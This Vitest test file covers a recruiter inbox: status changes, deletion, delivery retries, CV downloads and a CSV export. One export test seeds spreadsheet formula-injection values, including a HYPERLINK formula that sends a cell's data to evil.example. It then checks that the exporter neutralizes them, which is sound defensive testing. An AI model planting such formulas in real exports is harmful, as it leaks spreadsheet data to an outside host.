import { env } from 'cloudflare:workers';
import { beforeEach, describe, expect, it } from 'vitest';
import {
  applicationDetail,
  applyApplicationAction,
  downloadCv,
  EXPORT_COLUMNS,
  type ExportWords,
  exportPosting,
  inboxOverview,
  PAGE_SIZE,
  postingApplications,
  retriedDelivery,
  type InboxDeps,
} from '#functions/recruiters/inbox.ts';
import type { RecruiterIdentity } from '#functions/recruiters/access.ts';
import { auditTrail } from '#functions/storage/audit.ts';
import { clearStorage, NOW, pdfBytes, seedApplication, storedCounts } from './support.ts';

const RITA: RecruiterIdentity = { email: 'rita@example.com', via: 'access' };

function deps(overrides: Partial<InboxDeps> = {}): InboxDeps & { notified: string[] } {
  const notified: string[] = [];
  return { db: env.DB, bucket: env.CV_BUCKET, now: () => NOW, deliveryChannels: ['email', 'webhook'], notifyDelivery: (reference) => void notified.push(reference), log: () => {}, notified, ...overrides };
}

function form(fields: Record<string, string>): FormData {
  const data = new FormData();
  for (const [name, value] of Object.entries(fields)) data.set(name, value);
  return data;
}

async function rowOf(reference: string) {
  return env.DB.prepare('SELECT status, status_changed_at, process_ended_at FROM applications WHERE reference = ?1').bind(reference).first();
}

beforeEach(clearStorage);

describe('a status change', () => {
  it('to a final status sets the end of the process, is audited with the recruiter’s identity and queues application.status_changed', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    const inbox = deps();

    const outcome = await applyApplicationAction(inbox, reference, form({ action: 'status', status: 'rejected' }), RITA);

    expect(outcome).toEqual({ outcome: 'status-changed', status: 'rejected' });
    expect(await rowOf(reference)).toEqual({ status: 'rejected', status_changed_at: NOW.toISOString(), process_ended_at: NOW.toISOString() });
    expect(await auditTrail(env.DB, reference)).toEqual([
      { at: NOW.toISOString(), actor: 'rita@example.com', action: 'status.changed', reference, jobSlug: 'machine-learning-intern', detail: 'new → rejected' },
    ]);
    const events = await env.DB.prepare('SELECT event_type, channel FROM deliveries WHERE application_reference = ?1').bind(reference).all();
    expect(events.results).toEqual([{ event_type: 'application.status_changed', channel: 'webhook' }]);
    expect(inbox.notified).toEqual([reference]);
  });

  it('to a status that is not final records the step without ending the process', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    await applyApplicationAction(deps(), reference, form({ action: 'status', status: 'interview' }), RITA);
    expect(await rowOf(reference)).toEqual({ status: 'interview', status_changed_at: NOW.toISOString(), process_ended_at: null });
  });

  it('to the status it already has changes and records nothing', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    expect(await applyApplicationAction(deps(), reference, form({ action: 'status', status: 'new' }), RITA)).toEqual({ outcome: 'unchanged', status: 'new' });
    expect(await auditTrail(env.DB, reference)).toEqual([]);
  });

  it('to an unknown status is refused, naming the problem', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    expect(await applyApplicationAction(deps(), reference, form({ action: 'status', status: 'promoted' }), RITA)).toEqual({ outcome: 'invalid', key: 'inbox.error.status' });
    expect(await applyApplicationAction(deps(), reference, form({ action: 'dance' }), RITA)).toEqual({ outcome: 'invalid', key: 'inbox.error.invalid' });
    expect((await rowOf(reference))?.['status']).toBe('new');
  });

  it('of an unknown reference is “not found”', async () => {
    expect(await applyApplicationAction(deps(), 'ML-ZZZZZZ', form({ action: 'status', status: 'rejected' }), RITA)).toEqual({ outcome: 'not-found' });
  });

  it('that cannot be written answers “unavailable” and changes nothing', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    const failing = deps({ db: { prepare: (query) => env.DB.prepare(query), batch: () => Promise.reject(new Error('D1 is unavailable')) } });
    expect(await applyApplicationAction(failing, reference, form({ action: 'status', status: 'hired' }), RITA)).toEqual({ outcome: 'unavailable' });
    expect((await rowOf(reference))?.['status']).toBe('new');
  });
});

describe('delete now', () => {
  it('deletes the row, the CV, the delivery rows at once, keeps an audit entry and queues application.deleted', async () => {
    const { reference, cvKey } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', channels: ['email', 'webhook'] });
    const inbox = deps();

    expect(await applyApplicationAction(inbox, reference, form({ action: 'delete', confirm: 'yes' }), RITA)).toEqual({ outcome: 'deleted', jobSlug: 'machine-learning-intern' });

    expect(await storedCounts()).toEqual({ rows: 0, objects: 0 });
    expect(await env.CV_BUCKET.head(cvKey)).toBeNull();
    const events = await env.DB.prepare('SELECT event_type, channel FROM deliveries').all();
    expect(events.results).toEqual([{ event_type: 'application.deleted', channel: 'webhook' }]);
    expect(await auditTrail(env.DB, reference)).toEqual([
      { at: NOW.toISOString(), actor: 'rita@example.com', action: 'deleted', reference, jobSlug: 'machine-learning-intern', detail: 'recruiter' },
    ]);
    expect(inbox.notified).toEqual([reference]);
    // The detail page then shows the history of a deleted application.
    expect(await applicationDetail(inbox, reference)).toEqual({ deleted: await auditTrail(env.DB, reference) });
  });

  it('is refused without the ticked confirmation, deleting nothing', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    expect(await applyApplicationAction(deps(), reference, form({ action: 'delete' }), RITA)).toEqual({ outcome: 'invalid', key: 'inbox.error.confirmDelete' });
    expect(await storedCounts()).toEqual({ rows: 1, objects: 1 });
  });

  it('keeps everything when the CV cannot be deleted from R2', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    const failing = deps({ bucket: { get: (key) => env.CV_BUCKET.get(key), head: (key) => env.CV_BUCKET.head(key), delete: () => Promise.reject(new Error('R2 is unavailable')) } });
    expect(await applyApplicationAction(failing, reference, form({ action: 'delete', confirm: 'yes' }), RITA)).toEqual({ outcome: 'unavailable' });
    expect(await storedCounts()).toEqual({ rows: 1, objects: 1 });
    expect(await auditTrail(env.DB, reference)).toEqual([]);
  });

  it('works on an application whose stored row can no longer be read', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    await env.DB.prepare(`UPDATE applications SET answers = '[]' WHERE reference = ?1`).bind(reference).run();
    expect(await applyApplicationAction(deps(), reference, form({ action: 'delete', confirm: 'yes' }), RITA)).toMatchObject({ outcome: 'deleted' });
    expect(await storedCounts()).toEqual({ rows: 0, objects: 0 });
  });
});

describe('retry now', () => {
  it('gives a failed delivery a fresh round, records it, asks the queue to send it, and lists it as being retried until it goes through', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', channels: ['webhook'] });
    await env.DB.prepare(`UPDATE deliveries SET status = 'failed', attempts = 8, last_error = 'HTTP 500'`).run();
    const { id } = (await env.DB.prepare('SELECT id FROM deliveries').first<{ id: number }>())!;
    const inbox = deps();
    expect((await inboxOverview(inbox, [])).failed.map((delivery) => delivery.id)).toEqual([id]);
    expect(await retriedDelivery(inbox, id)).toBeUndefined();

    expect(await applyApplicationAction(inbox, reference, form({ action: 'retry', delivery: String(id) }), RITA)).toEqual({ outcome: 'retried', reference, delivery: id });

    expect(await env.DB.prepare('SELECT status, attempts, next_attempt_at, retried_at FROM deliveries').first()).toEqual({ status: 'pending', attempts: 0, next_attempt_at: NOW.toISOString(), retried_at: NOW.toISOString() });
    expect((await auditTrail(env.DB, reference)).map((entry) => entry.action)).toEqual(['delivery.retried']);
    expect(inbox.notified).toEqual([reference]);
    // Not failed any more, and not through either: the overview must not say every delivery went through.
    const overview = await inboxOverview(inbox, []);
    expect(overview.failed).toEqual([]);
    expect(overview.retrying.map((delivery) => [delivery.id, delivery.status, delivery.retriedAt])).toEqual([[id, 'pending', NOW.toISOString()]]);
    expect(await retriedDelivery(inbox, id)).toMatchObject({ id, status: 'pending' });

    await env.DB.prepare(`UPDATE deliveries SET status = 'sent', attempts = 1, delivered_at = ?1`).bind(NOW.toISOString()).run();
    expect((await inboxOverview(inbox, [])).retrying).toEqual([]);
    expect(await retriedDelivery(inbox, id)).toMatchObject({ id, status: 'sent' });
  });

  it('lists a pending delivery whose earlier attempts failed as being retried, and a fresh one not at all', async () => {
    await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', channels: ['email', 'webhook'] });
    await env.DB.prepare(`UPDATE deliveries SET attempts = 2, last_error = 'HTTP 503' WHERE channel = 'webhook'`).run();

    const { failed, retrying } = await inboxOverview(deps(), []);

    expect(failed).toEqual([]);
    expect(retrying.map((delivery) => [delivery.channel, delivery.attempts])).toEqual([['webhook', 2]]);
  });

  it('of a delivery that did not fail is “not found”', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', channels: ['webhook'] });
    const { id } = (await env.DB.prepare('SELECT id FROM deliveries').first<{ id: number }>())!;
    expect(await applyApplicationAction(deps(), reference, form({ action: 'retry', delivery: String(id) }), RITA)).toEqual({ outcome: 'not-found' });
  });
});

describe('the CV download', () => {
  it('streams the exact PDF from R2 as an attachment <reference>.pdf, never inline, private and not sniffable, and records it', async () => {
    const cv = pdfBytes(3000, 4);
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', cv });

    const response = await downloadCv(deps(), reference, RITA);

    expect(response?.status).toBe(200);
    expect(Object.fromEntries(response?.headers ?? [])).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': `attachment; filename="${reference}.pdf"`,
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, no-store',
      'content-length': '3000',
    });
    expect(new Uint8Array(await response!.arrayBuffer())).toEqual(cv);
    expect((await auditTrail(env.DB, reference)).map(({ actor, action }) => ({ actor, action }))).toEqual([{ actor: 'rita@example.com', action: 'cv.downloaded' }]);
  });

  it('answers a HEAD with the same headers and no body, and records no download', async () => {
    const { reference } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', cv: pdfBytes(3000, 5) });

    const response = await downloadCv(deps(), reference, RITA, 'HEAD');

    expect(response?.status).toBe(200);
    expect(Object.fromEntries(response?.headers ?? [])).toMatchObject({ 'content-disposition': `attachment; filename="${reference}.pdf"`, 'content-length': '3000', 'cache-control': 'private, no-store' });
    expect(response?.body).toBeNull();
    expect(await auditTrail(env.DB, reference)).toEqual([]);
  });

  it('is undefined (404) for an unknown reference or a CV missing from R2', async () => {
    const { reference, cvKey } = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    await env.CV_BUCKET.delete(cvKey);
    expect(await downloadCv(deps(), 'ML-ZZZZZZ', RITA)).toBeUndefined();
    expect(await downloadCv(deps(), reference, RITA)).toBeUndefined();
    expect(await downloadCv(deps(), reference, RITA, 'HEAD')).toBeUndefined();
  });
});

/** Parses the export's CSV (RFC 4180, every cell quoted, cells split by `separator`). */
function parseCsv(text: string, separator = ','): string[][] {
  const cell = new RegExp(`"((?:[^"]|"")*)"(?:${separator}|$)`, 'g');
  return text
    .trimEnd()
    .split('\r\n')
    .map((line) => [...line.matchAll(cell)].map((match) => match[1]!.replaceAll('""', '"')));
}

const WORDS: ExportWords = {
  headers: Object.fromEntries(EXPORT_COLUMNS.map((column) => [column, column])) as Record<(typeof EXPORT_COLUMNS)[number], string>,
  status: (status: string) => `status:${status}`,
  degree: (degree: string) => `degree:${degree}`,
  yes: 'yes',
  no: 'no',
  separator: ',',
};

describe('the CSV export', () => {
  it('neutralizes cells that a spreadsheet would run as a formula, keeps quotes and line breaks inside their cell, and starts with a UTF-8 BOM', async () => {
    const { reference } = await seedApplication({
      createdAt: '2026-11-20T10:00:00.000Z',
      answers: {
        firstName: '=HYPERLINK("https://evil.example/?d="&A1,"click")',
        lastName: '+SUM(1,2)',
        university: '-2+3',
        phone: '+49 89 1234567',
        motivation: '@risk\n"quoted" line, with a comma',
        links: ['https://example.org/a', '\tcmd'],
      },
    });

    const response = (await exportPosting(deps(), 'machine-learning-intern', RITA, WORDS, true))!;

    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="machine-learning-intern-applications-2026-11-26.csv"');
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, row] = parseCsv(new TextDecoder().decode(bytes));
    expect(header).toEqual([...EXPORT_COLUMNS]);
    const cell = (column: (typeof EXPORT_COLUMNS)[number]) => row![EXPORT_COLUMNS.indexOf(column)];
    expect(cell('reference')).toBe(reference);
    expect(cell('firstName')).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"click")`);
    expect(cell('lastName')).toBe("'+SUM(1,2)");
    expect(cell('university')).toBe("'-2+3");
    expect(cell('phone')).toBe("'+49 89 1234567");
    expect(cell('motivation')).toBe(`'@risk\n"quoted" line, with a comma`);
    expect(cell('status')).toBe('status:new');
    expect(row!.every((value) => !/^[=+\-@\t\r]/.test(value))).toBe(true);
    expect((await auditTrail(env.DB, reference)).length).toBe(0);
    const exports = await env.DB.prepare(`SELECT actor, job_slug, detail FROM audit_log WHERE action = 'exported'`).all();
    expect(exports.results).toEqual([{ actor: 'rita@example.com', job_slug: 'machine-learning-intern', detail: '1 applications' }]);
  });

  it('writes times on Munich’s clock (winter and summer), degrees by name, and cells split as the recruiter’s spreadsheet expects', async () => {
    const summer = await seedApplication({ createdAt: '2026-07-01T10:00:00.000Z', answers: { degree: 'master', motivation: 'a; b, c' } });
    const winter = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', answers: { degree: 'phd' } });

    const response = (await exportPosting(deps(), 'machine-learning-intern', RITA, { ...WORDS, separator: ';' }, true))!;

    const text = new TextDecoder().decode(await response.arrayBuffer());
    // (TextDecoder drops the byte-order mark, which the first test checks.)
    expect(text.split('\r\n')[0]).toBe(EXPORT_COLUMNS.map((column) => `"${column}"`).join(';'));
    const rows = parseCsv(text, ';').slice(1);
    const cell = (row: string[] | undefined, column: (typeof EXPORT_COLUMNS)[number]) => row![EXPORT_COLUMNS.indexOf(column)];
    expect(rows.map((row) => [cell(row, 'reference'), cell(row, 'submittedAt'), cell(row, 'privacyConsentedAt'), cell(row, 'degree')])).toEqual([
      [winter.reference, '2026-11-20 11:00', '2026-11-20 11:00', 'degree:phd'],
      [summer.reference, '2026-07-01 12:00', '2026-07-01 12:00', 'degree:master'],
    ]);
    expect(cell(rows[1], 'motivation')).toBe('a; b, c');
  });

  it('lists every application of the posting, newest first, however many there are', async () => {
    const references: string[] = [];
    for (let index = 0; index < 3; index += 1) references.push((await seedApplication({ createdAt: `2026-11-2${index}T10:00:00.000Z` })).reference);
    await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', jobSlug: 'other-posting' });

    const rows = parseCsv(new TextDecoder().decode(await (await exportPosting(deps(), 'machine-learning-intern', RITA, WORDS, true))!.arrayBuffer()));

    expect(rows.slice(1).map((row) => row[0])).toEqual(references.reverse());
  });

  it('of a posting that neither the content nor any application knows is undefined (404), and recorded nowhere', async () => {
    expect(await exportPosting(deps(), 'nope', RITA, WORDS, false)).toBeUndefined();
    expect((await env.DB.prepare('SELECT count(*) AS n FROM audit_log').first<{ n: number }>())?.n).toBe(0);
    // A posting the content knows exports its (empty) list; one only applications still name, theirs.
    expect((await exportPosting(deps(), 'empty-posting', RITA, WORDS, true))?.status).toBe(200);
    await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', jobSlug: 'retired-posting' });
    expect((await exportPosting(deps(), 'retired-posting', RITA, WORDS, false))?.status).toBe(200);
  });
});

describe('a posting’s list', () => {
  it('shows the newest first, filters by status, pages by id and marks, neutrally, each application that shares its e-mail address with another', async () => {
    const first = await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', answers: { email: 'ada@example.org' } });
    const second = await seedApplication({ createdAt: '2026-11-21T10:00:00.000Z', answers: { email: ' ADA@example.org', motivation: 'v2' } });
    const other = await seedApplication({ createdAt: '2026-11-22T10:00:00.000Z' });
    await applyApplicationAction(deps(), other.reference, form({ action: 'status', status: 'rejected' }), RITA);
    const inbox = deps();

    const all = await postingApplications(inbox, { jobSlug: 'machine-learning-intern' });
    // Neither is "current" or "superseded": each is an application of its own.
    expect(all.applications.map((application) => [application.reference, application.sharesAddress])).toEqual([
      [other.reference, false],
      [second.reference, true],
      [first.reference, true],
    ]);
    expect(all.nextBefore).toBeUndefined();
    const rejected = await postingApplications(inbox, { jobSlug: 'machine-learning-intern', status: 'rejected' });
    expect(rejected.applications.map((application) => application.reference)).toEqual([other.reference]);
    const older = await postingApplications(inbox, { jobSlug: 'machine-learning-intern', before: all.applications[1]!.id });
    expect(older.applications.map((application) => application.reference)).toEqual([first.reference]);
  });

  it(`offers the next page after ${PAGE_SIZE} applications`, async () => {
    for (let index = 0; index <= PAGE_SIZE; index += 1) {
      await env.DB.prepare(
        `INSERT INTO applications (reference, submission_key, fingerprint, job_slug, locale, answers, privacy_notice_version, privacy_consented_at, talent_pool, cv_key, cv_size, cv_sha256, created_at)
         VALUES (?1, ?1, ?1, 'machine-learning-intern', 'en', ?2, 'v', ?3, 0, ?1, 1, ?4, ?3)`,
      )
        .bind(`ML-P${String(index).padStart(5, '0')}`, JSON.stringify({ firstName: 'A', lastName: 'B', email: `${index}@example.org`, university: 'U', degree: 'master', graduation: '2027-07', startDate: '2027-03-01', durationMonths: 6, links: [] }), NOW.toISOString(), 'f'.repeat(64))
        .run();
    }
    const page = await postingApplications(deps(), { jobSlug: 'machine-learning-intern' });
    expect(page.applications).toHaveLength(PAGE_SIZE);
    expect(page.nextBefore).toBe(page.applications.at(-1)?.id);
  });

  it('the overview counts each posting’s applications per status, content postings without any included', async () => {
    await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z' });
    await seedApplication({ createdAt: '2026-11-20T10:00:00.000Z', jobSlug: 'retired-posting' });
    const { postings } = await inboxOverview(deps(), [
      { slug: 'machine-learning-intern', title: 'Machine Learning Intern' },
      { slug: 'empty-posting', title: 'Empty' },
    ]);
    expect(postings.map(({ slug, title, total, counts }) => ({ slug, title, total, new: counts.new }))).toEqual([
      { slug: 'machine-learning-intern', title: 'Machine Learning Intern', total: 1, new: 1 },
      { slug: 'empty-posting', title: 'Empty', total: 0, new: 0 },
      { slug: 'retired-posting', title: undefined, total: 1, new: 1 },
    ]);
  });
});
